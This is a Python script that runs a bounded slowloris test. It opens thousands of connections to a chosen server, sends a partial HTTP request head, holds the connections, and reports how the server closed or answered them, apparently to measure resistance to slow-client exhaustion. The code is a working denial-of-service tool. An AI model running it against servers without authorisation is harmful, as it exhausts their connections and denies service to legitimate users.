#!/usr/bin/env python3
"""Slow clients (slowloris): open many connections that send part of a
request head and then nothing, hold them, and report what the server did.

usage: slow_clients.py --addr A --port P --count N [--src S] [--hold SEC]
                       [--head BYTES] [--stagger-ms MS] [--window W]
Prints "open" once every connection is open and its bytes sent, then one
JSON line at the end: opened, failed (connect errors), closed (by the
server before the hold ended), status (first status code of what the server
sent, by code), open_at_end, and closed_order: the indices, in opening
order, of the connections the server closed. Bounded: every connection is
closed by us after --hold seconds.
"""
import argparse
import asyncio
import json
import resource
import sys
import time


def raise_nofile(want=1 << 16):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    except (ValueError, OSError):
        pass


async def one(i, a, results, opened_evt_count, sem):
    async with sem:
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(
                a.addr, a.port, local_addr=(a.src, 0) if a.src else None), 10)
        except (OSError, asyncio.TimeoutError):
            results[i] = {"failed": True}
            opened_evt_count[0] += 1
            return
        w.write(a.head.encode())
        await w.drain()
    opened_evt_count[0] += 1
    results[i] = {"failed": False, "closed": False, "data": b""}
    deadline = time.monotonic() + a.hold
    try:
        while time.monotonic() < deadline:
            try:
                d = await asyncio.wait_for(r.read(4096),
                                           max(0.01, deadline - time.monotonic()))
            except asyncio.TimeoutError:
                break
            if not d:
                results[i]["closed"] = True
                results[i]["t"] = time.monotonic()
                break
            results[i]["data"] += d
    except OSError:
        results[i]["closed"] = True
        results[i]["t"] = time.monotonic()
    finally:
        w.close()


async def main_async(a):
    results = [None] * a.count
    opened = [0]
    sem = asyncio.Semaphore(a.window)
    tasks = []
    for i in range(a.count):
        tasks.append(asyncio.create_task(one(i, a, results, opened, sem)))
        if a.stagger_ms:
            await asyncio.sleep(a.stagger_ms / 1000)
    end = time.monotonic() + 60
    while opened[0] < a.count and time.monotonic() < end:
        await asyncio.sleep(0.05)
    print("open", flush=True)
    await asyncio.gather(*tasks)
    status = {}
    closed = []
    for i, r in enumerate(results):
        if r is None or r["failed"]:
            continue
        if r["data"].startswith(b"HTTP/1.1 "):
            code = r["data"][9:12].decode(errors="replace")
            status[code] = status.get(code, 0) + 1
        if r["closed"]:
            closed.append((r["t"], i))
    closed.sort()
    out = {
        "opened": sum(1 for r in results if r and not r["failed"]),
        "failed": sum(1 for r in results if r is None or r["failed"]),
        "closed": len(closed),
        "status": status,
        "open_at_end": sum(1 for r in results if r and not r["failed"]
                           and not r["closed"]),
        "closed_order": [i for _, i in closed],
    }
    print(json.dumps(out), flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--addr", required=True)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--src")
    ap.add_argument("--count", type=int, required=True)
    ap.add_argument("--hold", type=float, default=5.0)
    ap.add_argument("--head", default="GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ")
    ap.add_argument("--stagger-ms", type=float, default=0)
    ap.add_argument("--window", type=int, default=256)
    a = ap.parse_args()
    a.hold = min(a.hold, 120.0)
    a.count = min(a.count, 60000)
    raise_nofile()
    asyncio.run(main_async(a))
    return 0


if __name__ == "__main__":
    sys.exit(main())
